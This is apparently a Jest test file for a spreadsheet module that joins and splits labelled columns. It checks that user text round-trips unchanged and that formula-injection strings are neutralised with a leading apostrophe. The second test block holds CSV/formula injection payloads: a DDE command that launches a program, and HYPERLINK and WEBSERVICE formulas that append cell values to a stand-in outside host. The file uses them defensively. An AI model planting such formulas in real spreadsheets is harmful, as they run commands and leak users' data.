import { joinColumns, splitColumns } from "../../../src/sheet/enquiries/joined-columns";

test.each<[string, string | number | boolean]>([
  ["a text", "Chair"],
  ["a text of two lines", "Chair\nand deputy"],
  ["a text that looks like a number", "7"],
  ["a number", 7],
  ["a tick", true],
  ["a formula over the row", "=RC[-12]*2"],
  ["a text that begins with an equals sign", "'=1+1"],
])("%s in a column of the user's own comes back as it was", (_what, content) => {
  const own = [{ heading: "Asked by: whom", content }];
  expect(splitColumns(joinColumns(own))).toEqual(own);
});

test.each([
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example/"&A1,"Click")',
  '=WEBSERVICE("https://elsewhere.example/"&RC[-1])',
  "='[Other.xlsx]Sheet1'!R1C1",
])("%s, which anybody may have typed there as text, comes back as text", (formula) => {
  expect(splitColumns(`Asked by: ${formula}`)).toEqual([{ heading: "Asked by", content: `'${formula}` }]);
  expect(splitColumns(formula)).toEqual([{ heading: "Notes", content: `'${formula}` }]);
});
